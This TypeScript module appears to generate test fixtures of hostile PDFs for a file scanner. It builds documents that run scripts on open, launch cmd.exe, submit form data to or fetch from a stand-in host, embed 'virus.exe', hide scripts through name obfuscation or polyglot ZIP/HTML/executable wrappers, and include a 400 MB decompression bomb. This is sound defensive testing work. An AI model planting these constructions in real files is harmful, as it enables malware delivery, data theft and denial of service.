import { deflateSync } from 'node:zlib';
import { PDFName, PDFString, type PDFDocument, type PDFObject } from 'pdf-lib';
import { action, pdf, pdfWith, photo, type Change } from '../files';
import { HARM, PROGRAM, SCRIPT, ZIP, file, type HostileFile } from './hostile';

/** Parts of a dictionary. */
type Parts = Record<string, string | PDFObject | Record<string, never>>;

const JS = { JS: PDFString.of(HARM) };

const opening =
  (kind: string, more = {}): Change =>
  (document) => {
    document.catalog.set(PDFName.of('OpenAction'), action(document, kind, more));
  };

const annotated =
  (annotation: (document: PDFDocument) => Parts): Change =>
  (document) => {
    const { context } = document;
    const found = context.register(
      context.obj({ Type: 'Annot', Rect: [0, 0, 9, 9], ...annotation(document) }),
    );
    document.getPage(0).node.set(PDFName.of('Annots'), context.obj([found]));
  };

const inCatalog =
  (name: string, value: (document: PDFDocument) => PDFObject): Change =>
  (document) => {
    document.catalog.set(PDFName.of(name), value(document));
  };

const attached = { mimeType: 'application/octet-stream' };
const specification = ({ context }: PDFDocument) =>
  context.obj({
    Type: 'Filespec',
    F: PDFString.of('virus.exe'),
    EF: { F: context.register(context.stream(PROGRAM)) },
  });

const around = (before: string | Buffer, after: string | Buffer) => async () =>
  Buffer.concat([Buffer.from(before), await pdf(), Buffer.from(after)]);

const loop: Change = (document) => {
  const pages = document.catalog.get(PDFName.of('Pages'));
  document.catalog.Pages().set(PDFName.of('Kids'), document.context.obj([pages, pages]));
};

function packedBomb(): Buffer {
  const packed = deflateSync(Buffer.alloc(400_000_000, '1 '));
  const head = `<</Type/ObjStm/N 100000/First 10/Filter/FlateDecode/Length ${String(packed.length)}>>`;
  return Buffer.concat([
    Buffer.from(`%PDF-1.7\n1 0 obj\n${head}stream\n`),
    packed,
    Buffer.from('\nendstream\nendobj\ntrailer\n<</Root 1 0 R>>\n%%EOF'),
  ]);
}

const deep = (open: string, close: string) =>
  `%PDF-1.7\n1 0 obj\n${open.repeat(200_000)}${close.repeat(200_000)}\nendobj\ntrailer\n<</Root 1 0 R>>\n%%EOF`;

const active = (what: string, change: Change, packed = true) =>
  file(what, 'active', () => pdf(change, packed));

/** PDFs, and what looks like them. */
export const pdfs: HostileFile[] = [
  active('a PDF that runs a script when it is opened', opening('JavaScript', JS)),
  active('the same in the form of twenty years ago', opening('JavaScript', JS), false),
  active('a PDF with a script under a name', (document) => {
    document.addJavaScript('saluto', HARM);
  }),
  active('a PDF that runs a script when its page is left', (document) => {
    document
      .getPage(0)
      .node.set(PDFName.of('AA'), document.context.obj({ C: action(document, 'JavaScript', JS) }));
  }),
  active(
    'a PDF that runs a script when something is clicked',
    annotated((document) => ({ Subtype: 'Link', A: action(document, 'JavaScript', JS) })),
  ),
  active(
    'a PDF that runs a script after a harmless action',
    opening('GoTo', { Next: [{ S: 'JavaScript', ...JS }] }),
  ),
  active('a PDF that starts a program', opening('Launch', { F: PDFString.of('cmd.exe') })),
  active('a PDF that sends what is typed', opening('SubmitForm', { F: PDFString.of('https://x.example') })),
  active('a PDF that fetches data', opening('ImportData', { F: PDFString.of('//x.example/a') })),
  active(
    'a PDF that opens a file of another machine',
    opening('GoToR', { F: PDFString.of('//x.example/a') }),
  ),
  active(
    'a PDF that opens a thread of another machine',
    opening('Thread', { F: PDFString.of('//x.example/a') }),
  ),
  active('a PDF that opens an address by itself', opening('URI', { URI: PDFString.of('https://x.example') })),
  active(
    'a PDF that opens an address by itself after a harmless action',
    opening('GoTo', { Next: [{ S: 'URI', URI: PDFString.of('https://x.example') }] }),
  ),
  active('a PDF that plays a film by itself', opening('Movie', { T: PDFString.of('x') })),
  active('a PDF that opens a PDF inside another one', opening('GoToE', { T: { R: 'C' } })),
  active(
    'a PDF with a film',
    annotated(() => ({ Subtype: 'Movie' })),
  ),
  active(
    'a PDF with sounds',
    annotated(() => ({ Subtype: 'Sound' })),
  ),
  active(
    'a PDF with a solid',
    annotated(() => ({ Subtype: '3D' })),
  ),
  active(
    'a PDF with rich media',
    annotated(() => ({ Subtype: 'RichMedia', RichMediaContent: {} })),
  ),
  active(
    'a form of the other kind',
    inCatalog('AcroForm', ({ context }) => context.obj({ Fields: [], XFA: PDFString.of('<xdp/>') })),
  ),
  file('a PDF whose script hides in its spelling', 'active', () =>
    pdfWith('90 0 obj\n<</#53/Java#53cript/#4aS(x)>>\nendobj'),
  ),
  file('a PDF whose script another object replaces', 'active', () =>
    pdfWith('90 0 obj\n<</JS(x)>>\nendobj\n90 0 obj\n<<>>\nendobj'),
  ),
  file('a PDF whose script hides in a comment', 'active', () =>
    pdfWith('% 90 0 obj <</S /JavaScript/JS(x)>> endobj'),
  ),
  file('a PDF whose script hides in the contents of a stream', 'active', () =>
    pdfWith('90 0 obj\n<</Length 26>>stream\n<</S/JavaScript/JS(abcde)>>\nendstream\nendobj'),
  ),
  file('a PDF whose contents lie on another machine', 'active', () =>
    pdfWith('90 0 obj\n<</Length 0/F(//x.example/a)>>stream\n\nendstream\nendobj'),
  ),
  file('a PDF with a script that a second PDF hides', 'active', async () =>
    Buffer.concat([await pdf(opening('JavaScript', JS), false), await pdf(undefined, false)]),
  ),
  file('a PDF with a program attached', 'attachments', () =>
    pdf((document) => document.attach(PROGRAM, 'virus.exe', attached)),
  ),
  file('a PDF with another PDF attached', 'attachments', () =>
    pdf(async (document) => document.attach(await pdf(), 'altro.pdf', attached)),
  ),
  file('a PDF with a program on a note', 'attachments', () =>
    pdf(annotated((document) => ({ Subtype: 'FileAttachment', FS: specification(document) }))),
  ),
  file('a PDF with a program beside it', 'attachments', () =>
    pdf(inCatalog('AF', (document) => document.context.obj([specification(document)]))),
  ),
  file('a PDF that opens with a password', 'encrypted', () =>
    pdf((document) => {
      document.encrypt({ userPassword: 'segreta', ownerPassword: 'altra' });
    }, false),
  ),
  file('a PDF that opens for everybody and prints for nobody', 'encrypted', () =>
    pdf((document) => {
      document.encrypt({ ownerPassword: 'altra', permissions: { printing: false } });
    }, false),
  ),
  file('a PDF with a ZIP before it', 'more-than-a-pdf', around(ZIP, '')),
  file(
    'a PDF with a page of the web before it',
    'more-than-a-pdf',
    around(`<!doctype html>${SCRIPT}<!--`, ''),
  ),
  file('a PDF that is a script too', 'more-than-a-pdf', around('/*', `*/${HARM}`)),
  file('a PDF with a program before it', 'more-than-a-pdf', around(PROGRAM, '')),
  file(
    'a PDF in the envelope of a signature',
    'more-than-a-pdf',
    around(Buffer.from([0x30, 0x82, 0x20, 0]), 'firma'),
  ),
  file('a PDF with a ZIP behind it', 'more-than-a-pdf', around('', ZIP)),
  file('a PDF with a page of the web behind it', 'more-than-a-pdf', around('', SCRIPT)),
  file('a PDF with a program behind it', 'more-than-a-pdf', around('', PROGRAM)),
  file('a photo with a PDF in the place of its picture', 'unreadable', async () =>
    Buffer.concat([(await photo()).subarray(0, 20), await pdf()]),
  ),
  file('the first word of a PDF', 'unreadable', '%PDF-1.7'),
  file('the first and the last word of a PDF', 'unreadable', '%PDF-1.7\n%%EOF'),
  file('a PDF that breaks off', 'unreadable', async () => (await pdf()).subarray(0, 300)),
  file('a PDF with an object that nobody can read', 'unreadable', () =>
    pdfWith('90 0 obj\n<</A (never closed >>\nendobj'),
  ),
  file('a PDF of pages that are made of themselves', 'unreadable', () => pdf(loop, false)),
  file('a PDF of lists in lists in lists', 'unreadable', deep('[', ']')),
  file('a PDF of dictionaries in dictionaries', 'unreadable', deep('<</A', '>>')),
  file('a PDF of one word again and again', 'unreadable', () => pdfWith('stream '.repeat(250_000))),
  file('a PDF that unpacks into 400 megabytes', 'too-costly', packedBomb),
];
